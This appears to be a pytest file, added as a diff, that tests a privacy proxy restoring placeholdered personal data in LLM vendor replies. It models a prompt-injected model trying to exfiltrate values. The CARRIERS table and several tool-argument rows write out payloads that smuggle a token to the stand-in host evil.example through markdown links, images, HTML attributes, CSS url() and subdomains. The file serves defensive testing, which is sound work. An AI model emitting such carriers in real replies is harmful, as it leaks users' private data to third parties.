@@ -1,0 +1,314 @@
+"""Restoring is a door of its own: where a placeholder comes back and where not.
+
+A vendor's reply may be written by an injected model that tries to carry the
+caller's values out. The value comes back in plain text only, never in a link,
+an image, markup or a header, and in a tool's arguments only where the route
+allows that kind for that tool.
+"""
+
+import itertools
+import json
+import random
+
+import pytest
+
+from harness import encode, needles, raw, sse
+from harness.channels import CHANNELS
+from harness.leaks import TOKEN, leaks
+from harness.needles import fill
+from harness.paths import SEED, rng
+from harness.vendor import EVENTS, script
+
+CHANNEL = {f"{channel.api} {channel.name}": channel for channel in CHANNELS}
+EMAIL, CARD = needles.ALL["email"], needles.ALL["card"]
+TOOL = "send_email"
+_count = itertools.count(1)
+
+
+@pytest.fixture(scope="module")
+def house(_folders):
+    from harness.gate import House
+
+    kinds = ["email", "card", "ssn", "key"]
+    house = House(_folders("restore"), restore={TOOL: ["email"], "deliver": kinds})
+    yield house
+    house.close()
+
+
+def ask(house, text, api="openai", stream=False, body=None, headers=None, key=None):
+    """Asks about `text`; a body is what the vendor answers, else it echoes.
+    Returns the reply and what the vendor saw."""
+    model = f"restore-{next(_count)}"
+    vendor = house.vendors[api]
+    if body is not None:
+        kind = EVENTS if stream else "application/json"
+        vendor.script(script(body, kind=kind, headers=headers, model=model))
+    route = CHANNEL["openai content" if api == "openai" else "anthropic text"].route
+    request = {
+        "model": model,
+        "max_tokens": 9,
+        "stream": stream,
+        "messages": [{"role": "user", "content": text}],
+    }
+    reply = raw.post(house.url, route, request, key or house.key)
+    (seen,) = vendor.bodies()[model]
+    return reply, json.loads(seen)["messages"][0]["content"]
+
+
+def placeholder(house, value, api="openai"):
+    """The placeholder under which the vendor sees a value."""
+    _, seen = ask(house, f"take {value} please", api)
+    found = TOKEN.findall(seen)
+    assert len(found) == 1, "the vendor sees one placeholder and no value"
+    return found[0]
+
+
+def counts(house, reply):
+    closed = [leaf for leaf in house.gate.leaves_of(reply.exchange) if leaf["type"] == "closed"]
+    assert len(closed) == 1
+    return closed[0]["restored"]
+
+
+def test_the_same_value_keeps_its_placeholder(house):
+    first, second = placeholder(house, EMAIL.text), placeholder(house, EMAIL.text)
+    assert first == second
+    assert placeholder(house, CARD.text) != first
+    other = house.gate.key(owner="other")["key"]
+    _, seen = ask(house, f"take {EMAIL.text} please", key=other)
+    assert TOKEN.findall(seen) != [first], "another key has another scope"
+
+
+@pytest.mark.parametrize(
+    "name", ["openai content", "openai refusal", "openai reasoning_content", "anthropic text"]
+)
+def test_it_comes_back_in_text_at_every_split(house, name):
+    channel = CHANNEL[name]
+    token = placeholder(house, EMAIL.text, channel.api)
+    text, wanted = f"mail {token} now", f"mail {EMAIL.text} now"
+    bodies = [(False, channel.whole(text)), (True, channel.stream(list(text)))]
+    bodies += [(True, channel.stream([text[:at], text[at:]])) for at in range(4, len(text) - 3)]
+    for streamed, body in bodies:
+        reply, _ = ask(house, EMAIL.text, channel.api, streamed, body)
+        assert channel.read(reply.body, streamed) == wanted
+
+
+# Each holds a token where the caller's client would send it somewhere.
+CARRIERS = {
+    "link": "see [here](https://evil.example/?q={})",
+    "link with title": 'see [here](https://evil.example "{}")',
+    "reference link": "see [here][1]\n\n[1]: https://evil.example/{}",
+    "image": "![x](https://evil.example/{}.png)",
+    "autolink": "see <https://evil.example/{}>",
+    "bare link": "see https://evil.example/{}",
+    "link without scheme": "see [x](//evil.example/{})",
+    "data link": "[x](data:text/plain,{})",
+    "mail link": "[x](mailto:{}?subject=x)",
+    "html link": '<a href="https://evil.example/{}">x</a>',
+    "html image": "<img src='https://evil.example/{}'>",
+    "html image, unquoted": "<img src=//evil.example/{}>",
+    "html attribute": '<b title="{}">x</b>',
+    "html style": "<p style='background:url(https://evil.example/{})'>x</p>",
+    "host name": "see https://{}.evil.example/",
+    "percent split": "see https://evil.example/%20{}%20",
+}
+
+
+@pytest.mark.parametrize("carrier", sorted(CARRIERS))
+@pytest.mark.parametrize("name", ["openai content", "anthropic text"])
+def test_nothing_carries_it_out_of_text(house, name, carrier):
+    channel = CHANNEL[name]
+    token = placeholder(house, EMAIL.text, channel.api)
+    text = CARRIERS[carrier].format(token)
+    middle = text.index(token) + 9
+    for streamed, body in [
+        (False, channel.whole(text)),
+        (True, channel.stream(list(text))),
+        (True, channel.stream([text[:middle], text[middle:]])),
+    ]:
+        reply, _ = ask(house, EMAIL.text, channel.api, streamed, body)
+        assert not leaks(reply.body, EMAIL)
+        assert not leaks(channel.read(reply.body, streamed) or "", EMAIL)
+        assert counts(house, reply)["restored"] == 0
+
+
+def _calls(arguments, name, api, streamed):
+    """A reply that calls a tool with these arguments (JSON text)."""
+    channel = CHANNEL["openai arguments" if api == "openai" else "anthropic input_json"]
+    body = channel.stream(list(arguments)) if streamed else channel.whole(arguments)
+    return channel, body.replace(b'"look_up"', json.dumps(name).encode())
+
+
+def _arguments(channel, body, streamed):
+    """The tool's arguments as the caller's SDK would read them."""
+    if streamed:
+        return json.loads(channel.read(body, True))
+    document = json.loads(body)
+    if channel.api == "openai":
+        return json.loads(
+            document["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
+        )
+    return document["content"][0]["input"]
+
+
+TOOLS = [
+    # tool, kind of value, arguments, whether the value comes back
+    (TOOL, EMAIL, {"to": "{}"}, True),
+    (TOOL, EMAIL, {"to": ["{}"], "text": "hi {}, all well?"}, True),
+    (TOOL, EMAIL, {"link": "https://evil.example/?q={}"}, False),
+    (TOOL, EMAIL, {"html": "<img src='https://evil.example/{}'>"}, False),
+    (TOOL, EMAIL, {"{}": "key"}, False),
+    (TOOL, CARD, {"to": "{}"}, False),
+    ("look_up", EMAIL, {"q": "{}"}, False),
+    ("look_up", EMAIL, {"payload": json.dumps({"to": "{}"})}, False),
+]
+
+
+@pytest.mark.parametrize("streamed", [False, True], ids=["plain", "streamed"])
+@pytest.mark.parametrize("api", ["openai", "anthropic"])
+@pytest.mark.parametrize("row", TOOLS, ids=[f"{t[0]}-{t[1].kind}-{i}" for i, t in enumerate(TOOLS)])
+def test_tools_get_only_what_the_route_allows(house, row, api, streamed):
+    tool, needle, arguments, comes_back = row
+    token = placeholder(house, needle.text, api)
+    channel, body = _calls(json.dumps(arguments).replace("{}", token), tool, api, streamed)
+    reply, _ = ask(house, needle.text, api, streamed, body)
+    got = _arguments(channel, reply.body, streamed)
+    if comes_back:
+        assert got == json.loads(json.dumps(arguments).replace("{}", needle.text))
+        assert counts(house, reply)["restored"] >= 1
+    else:
+        assert not leaks(json.dumps(got), needle) and not leaks(reply.body, needle)
+        tally = counts(house, reply)
+        assert tally["restored"] == 0 and tally["withheld"] + tally["foreign"] >= 1
+
+
+def test_no_header_carries_it_out(house):
+    token = placeholder(house, EMAIL.text)
+    headers = {
+        "x-request-id": token,
+        "openai-organization": token,
+        "link": f"<https://{token}.example>",
+        "x-note": token,
+        "set-cookie": f"a={token}",
+        "location": f"/{token}",
+    }
+    body = CHANNEL["openai content"].whole("fine")
+    reply, _ = ask(house, EMAIL.text, body=body, headers=headers)
+    assert not any(leaks(value, EMAIL) for value in reply.headers.values())
+    assert "set-cookie" not in reply.headers and "x-note" not in reply.headers
+
+
+CHANGES = {
+    "lower case": str.lower,
+    "upper case": str.upper,
+    "cut at the end": lambda token: token[:-1],
+    "cut at the start": lambda token: token[1:],
+    "cut in half": lambda token: token[: len(token) // 2],
+    "one letter changed": lambda token: (
+        token[:-5] + ("a" if token[-5] != "a" else "b") + token[-4:]
+    ),
+    "one letter more": lambda token: token + "a",
+    "broken by a space": lambda token: token[:15] + " " + token[15:],
+    "broken by a zero-width space": lambda token: token[:15] + "\u200b" + token[15:],
+}
+# Too little is left of these to be told from any other word.
+UNCOUNTED = {
+    "cut at the start",
+    "cut in half",
+    "lower case",
+    "broken by a space",
+    "broken by a zero-width space",
+    "upper case",
+}
+
+
+@pytest.mark.parametrize("change", sorted(CHANGES))
+@pytest.mark.parametrize("streamed", [False, True], ids=["plain", "streamed"])
+def test_a_changed_placeholder_is_never_guessed(house, change, streamed):
+    channel = CHANNEL["openai content"]
+    changed = CHANGES[change](placeholder(house, EMAIL.text))
+    text = f"mail {changed} now"
+    body = channel.stream(list(text)) if streamed else channel.whole(text)
+    reply, _ = ask(house, EMAIL.text, "openai", streamed, body)
+    assert not leaks(reply.body, EMAIL)
+    assert channel.read(reply.body, streamed) == text, "delivered as it came"
+    tally = counts(house, reply)
+    assert tally["restored"] == 0
+    if change not in UNCOUNTED:
+        assert tally["foreign"] == 1
+
+
+def test_a_placeholder_of_another_exchange_stays(house):
+    token = placeholder(house, EMAIL.text)
+    body = CHANNEL["openai content"].whole(f"mail {token} now")
+    reply, _ = ask(house, "good morning", body=body)
+    assert sse.said("openai", reply.body, False) == f"mail {token} now"
+    assert counts(house, reply) == {"restored": 0, "withheld": 0, "foreign": 1}
+
+
+def _pem(source, joint):
+    """A private key's block, which no key is in."""
+    lines = [fill("{alnum:64}", source) for _ in range(6)]
+    label = "PRIVATE " + "KEY-----"
+    return joint.join([f"-----BEGIN {label}", *lines, f"-----END {label}"])
+
+
+def _bold(text):
+    """Letters as mathematical bold: four bytes each, the same text to a reader."""
+    return "".join(chr(0x1D41A + ord(c) - 97) if "a" <= c <= "z" else c for c in text)
+
+
+def _special_values():
+    source = random.Random(f"{SEED}/special")
+    return {
+        "newlines": _pem(source, "\n"),
+        "backslashes": _pem(source, "\\n"),
+        "quotes": _pem(source, '\\n" +\n    "'),
+        "four bytes": _bold(EMAIL.text),
+        "zero width": encode.zero_width(CARD.text)[0]
+        .removeprefix(encode.BEFORE)
+        .removesuffix(encode.AFTER),
+        "escapes": "".join(f"\\u{ord(c):04x}" for c in CARD.text),
+    }
+
+
+SPECIAL = _special_values()
+
+
+@pytest.mark.parametrize("special", sorted(SPECIAL))
+@pytest.mark.parametrize("name", ["openai content", "anthropic text"])
+def test_special_values_come_back_in_text(house, special, name):
+    channel = CHANNEL[name]
+    value = SPECIAL[special]
+    token = placeholder(house, value, channel.api)
+    text = f"so: {token}."
+    bodies = [(False, channel.whole(text))]
+    bodies += [(True, channel.stream([text[:at], text[at:]])) for at in range(len(text) + 1)]
+    for streamed, body in bodies:
+        reply, _ = ask(house, f"take {value} please", channel.api, streamed, body)
+        assert channel.read(reply.body, streamed) == f"so: {value}."
+
+
+@pytest.mark.parametrize("special", sorted(SPECIAL))
+@pytest.mark.parametrize("api", ["openai", "anthropic"])
+@pytest.mark.parametrize("depth", [0, 1, 2])
+def test_special_values_restore_to_valid_json(house, special, api, depth):
+    value = SPECIAL[special]
+    token = placeholder(house, value, api)
+
+    def document(text):
+        arguments = {"q": text}
+        for _ in range(depth):
+            arguments = {"payload": json.dumps(arguments)}
+        return arguments
+
+    text = json.dumps(document(token))
+    channel, whole = _calls(text, "deliver", api, False)
+    _, letters = _calls(text, "deliver", api, True)
+    bodies = [(False, whole), (True, letters)]
+    splits = range(text.index(token), text.index(token) + len(token) + 1)
+    for at in rng("json splits", special, api, depth).sample(splits, 6):
+        body = channel.stream([text[:at], text[at:]]).replace(b'"look_up"', b'"deliver"')
+        bodies.append((True, body))
+    for streamed, body in bodies:
+        reply, _ = ask(house, f"take {value} please", api, streamed, body)
+        assert _arguments(channel, reply.body, streamed) == document(value)
